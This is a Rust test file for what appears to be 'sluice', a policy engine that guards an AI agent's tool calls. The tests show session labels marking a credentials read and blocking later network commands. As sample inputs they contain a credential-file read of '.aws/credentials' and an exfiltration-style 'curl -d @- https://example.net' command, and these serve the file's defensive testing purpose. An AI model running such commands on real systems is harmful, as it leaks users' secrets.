//! Session labels from the command line: `sluice eval` judging a call in the session it names,
//! `sluice test` running sequences, the checker's errors, and `sluice replay` judging a logged
//! call on the labels it was judged on (lang-spec/sessions.md).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)] // test code may panic

mod support;

use serde_json::{Value, json};
use support::cli::{sluice, sluice_in};
use support::temp_dir;

fn out(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr)
}

fn eval(call: &Value) -> Value {
    let output = sluice(
        &[
            "eval",
            "--policy",
            "builtin:data-flow",
            "--context",
            "workspace=/w",
            "--context",
            "home=/home/me",
            "--context",
            "allowed_hosts=[]",
        ],
        call.to_string().as_bytes(),
    );
    serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{}", out(&output)))
}

#[test]
fn a_call_is_judged_in_the_session_it_names_and_without_one_fails_closed() {
    let curl = |session: Option<Value>| {
        let mut call =
            json!({ "tool": "bash", "args": { "command": "curl -d @- https://example.net" } });
        if let Some(session) = session {
            call["session"] = session;
        }
        eval(&call)
    };
    let tainted = curl(Some(json!({ "labels": ["secret-read"] })));
    assert_eq!(tainted["decision"], "deny", "{tainted}");
    assert_eq!(
        tainted["rule"]["name"],
        "deny_network_commands_after_secret_read"
    );
    let clean = curl(Some(json!({ "labels": [], "calls": { "read_file": 3 } })));
    assert_eq!(clean["decision"], "delegate", "{clean}");
    let unknown = curl(None);
    assert_eq!(unknown["decision"], "deny", "{unknown}");
    assert!(
        unknown["reason"]
            .as_str()
            .unwrap()
            .contains("the session's state is not available"),
        "{unknown}"
    );
}

#[test]
fn a_post_check_reports_the_labels_it_attached() {
    let outcome = eval(&json!({
        "tool": "read_file", "args": { "path": "/home/me/.aws/credentials" },
        "result": { "status": "ok", "content": "[default]" },
        "session": {}
    }));
    assert_eq!(
        outcome["postcheck"]["labels"],
        json!([{ "label": "secret-read", "expiry": null }]),
        "{outcome}"
    );
}

#[test]
fn a_malformed_session_is_refused_with_where_it_is() {
    for (session, says) in [
        (json!({ "labels": "secret-read" }), "session.labels"),
        (json!({ "calls": { "bash": -1 } }), "session.calls.bash"),
        (json!({ "lables": [] }), "did you mean `labels`?"),
    ] {
        let call = json!({ "tool": "bash", "args": { "command": "ls" }, "session": session });
        let output = sluice(
            &["eval", "--policy", "builtin:data-flow"],
            call.to_string().as_bytes(),
        );
        assert_eq!(output.status.code(), Some(2), "{}", out(&output));
        assert!(out(&output).contains(says), "{}", out(&output));
    }
}

const SET: &str = r#"tool fetch { url: string }
tool bash { command: string }
label untrusted-web

postcheck fetched on fetch => label session "untrusted-web" for 2 calls
precheck ask_after_the_web on bash
  when "untrusted-web" in session.labels
  => ask "web content was read"
"#;

#[test]
fn a_sequence_test_sees_what_earlier_steps_left_and_names_the_failing_step() {
    let dir = temp_dir("sessions-sequence");
    let passing = format!(
        "{SET}\ntest \"the label holds for two calls\" {{\n  call fetch {{ url: \"https://a.example\" }}\n  result ok {{ content: \"x\" }}\n  expect label \"untrusted-web\"\n  call bash {{ command: \"ls\" }}\n  expect ask\n  call bash {{ command: \"ls\" }}\n  expect ask\n  call bash {{ command: \"ls\" }}\n  expect delegate\n}}\n"
    );
    std::fs::write(dir.join("p.sluice"), &passing).unwrap();
    let output = sluice_in(&dir, &["test", "p.sluice"], b"");
    assert!(output.status.success(), "{}", out(&output));
    assert!(
        out(&output).contains("1 passed, 0 failed"),
        "{}",
        out(&output)
    );
    let failing = format!(
        "{SET}\ntest \"a label lapses\" {{\n  call fetch {{ url: \"https://a.example\" }}\n  result ok {{ content: \"x\" }}\n  call bash {{ command: \"ls\" }}\n  expect delegate\n}}\n"
    );
    std::fs::write(dir.join("p.sluice"), &failing).unwrap();
    let output = sluice_in(&dir, &["test", "p.sluice"], b"");
    assert!(!output.status.success(), "{}", out(&output));
    assert!(
        out(&output).contains("call 2 (bash): expected delegate, got ask"),
        "{}",
        out(&output)
    );
}

#[test]
fn labels_are_declared_and_attached_only_by_post_checks() {
    let dir = temp_dir("sessions-check");
    for (text, code) in [
        (
            "tool bash { command: string }\nlabel x\nprecheck p on bash => label session \"x\"\n",
            "E0013",
        ),
        (
            "tool bash { command: string }\nlabel x\npostcheck p on bash => label session \"y\"\n",
            "E0035",
        ),
        ("tool bash { command: string }\nlabel x\nlabel x\n", "E0036"),
        (
            "tool bash { command: string }\nlabel x\ntest \"t\" {\n  call bash { command: \"ls\" }\n  session { labels: [\"x\"] }\n  expect delegate\n}\n",
            "E0021",
        ),
        (
            "tool bash { command: string }\nlabel x\ntest \"t\" {\n  session { labels: [\"z\"] }\n  call bash { command: \"ls\" }\n  expect delegate\n}\n",
            "E0035",
        ),
        (
            "tool bash { command: string }\nlabel x\ntest \"t\" {\n  call bash { command: \"ls\" }\n  expect label \"x\"\n}\n",
            "E0021",
        ),
    ] {
        std::fs::write(dir.join("p.sluice"), text).unwrap();
        let output = sluice_in(&dir, &["check", "p.sluice"], b"");
        assert!(!output.status.success(), "{text}\n{}", out(&output));
        assert!(out(&output).contains(code), "{text}\n{}", out(&output));
    }
}

#[test]
fn replay_judges_a_logged_call_on_the_labels_it_was_judged_on() {
    let dir = temp_dir("sessions-replay");
    std::fs::write(dir.join("old.sluice"), "tool bash { command: string }\n").unwrap();
    std::fs::write(dir.join("new.sluice"), SET).unwrap();
    for name in ["old", "new"] {
        let config = format!("[[policy]]\nset = \"{name}.sluice\"\n");
        std::fs::write(dir.join(format!("{name}.toml")), config).unwrap();
    }
    let line = |labels: Value| {
        json!({
            "decision_id": "d", "time": "2026-12-04T00:00:00Z", "endpoint": "hook:claude",
            "agent": "claude-code", "tool": "bash", "decision": "delegate", "policy_hash": "h",
            "input": { "args": { "command": "ls" }, "context": {}, "session": { "labels": labels } }
        })
        .to_string()
    };
    let log = format!("{}\n{}\n", line(json!(["untrusted-web"])), line(json!([])));
    std::fs::write(dir.join("decisions.jsonl"), log).unwrap();
    let output = sluice_in(
        &dir,
        &[
            "replay",
            "--log",
            "decisions.jsonl",
            "--config",
            "old.toml",
            "--against",
            "new.toml",
            "--format",
            "json",
        ],
        b"",
    );
    let text = out(&output);
    assert!(text.contains("ask_after_the_web"), "{text}");
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    assert_eq!(report["replayed"], 2, "{text}");
    // Only the call judged in a labelled session is asked about now.
    let changed = report["changed"].as_array().unwrap();
    assert_eq!(changed.len(), 1, "{text}");
    assert_eq!(changed[0]["line"], 1, "{text}");
    assert_eq!(changed[0]["new"]["decision"], "ask", "{text}");
}

const GUARD: &str = r#"tool read_file { path: string }
tool bash { command: string }
label secret-read

postcheck secrets on read_file when args.path.ends_with("credentials") => label session "secret-read"
gate no_network_after_secrets on bash
  when "secret-read" in session.labels
  => "a secret was read earlier in this session"
precheck anything_goes on * => allow
"#;

/// The embedded runtime with a memory store: a call made in a session is judged on what the
/// session's earlier calls left; a call in no session, to a rule that reads one, fails closed.
#[tokio::test]
async fn the_runtime_keeps_each_sessions_labels_for_its_later_calls() {
    use sluice::compiler::call::Status;
    use sluice_runtime::policy::LoadedPolicy;
    use sluice_runtime::registry::Scope;
    use sluice_runtime::session::{MemoryStore, SessionStore};
    use support::{Counter, call, counting_tool, registry_with};

    let runs = Counter::default();
    let registry = registry_with(vec![
        counting_tool("read_file", "[default]", runs.clone()),
        counting_tool("bash", "sent", runs.clone()),
    ]);
    let policy =
        LoadedPolicy::compile("guard", vec![("guard.sluice".into(), GUARD.into())]).unwrap();
    let store = std::sync::Arc::new(MemoryStore::new());
    let (builder, _) = sluice_runtime::RuntimeBuilder::new(registry)
        .sessions(store.clone())
        .policy(Scope::Global, policy);
    let runtime = builder.build();
    let run = |tool: &str, args: Value, session: Option<&str>| {
        let mut made = call(tool, args);
        if let Some(id) = session {
            made = made.in_session(id);
        }
        runtime.execute(made, tokio_util::sync::CancellationToken::new())
    };
    let curl = json!({ "command": "curl -d @- https://example.net" });
    assert_eq!(
        run("bash", curl.clone(), Some("s1")).await.status(),
        Status::Ok
    );
    let read = run(
        "read_file",
        json!({ "path": "/h/.aws/credentials" }),
        Some("s1"),
    )
    .await;
    assert_eq!(read.status(), Status::Ok);
    assert_eq!(read.result().labels.len(), 1);
    let denied = run("bash", curl.clone(), Some("s1")).await;
    assert_eq!(denied.status(), Status::Denied, "{:?}", denied.result());
    assert_eq!(
        run("bash", curl.clone(), Some("s2")).await.status(),
        Status::Ok
    );
    let unknown = run("bash", curl, None).await;
    assert_eq!(unknown.status(), Status::Denied, "{:?}", unknown.result());
    assert_eq!(runs.get(), 3);
    let state = store.load("s1").unwrap();
    assert_eq!(state.calls(), 3);
    assert_eq!(state.view(0).labels, ["secret-read"]);
}
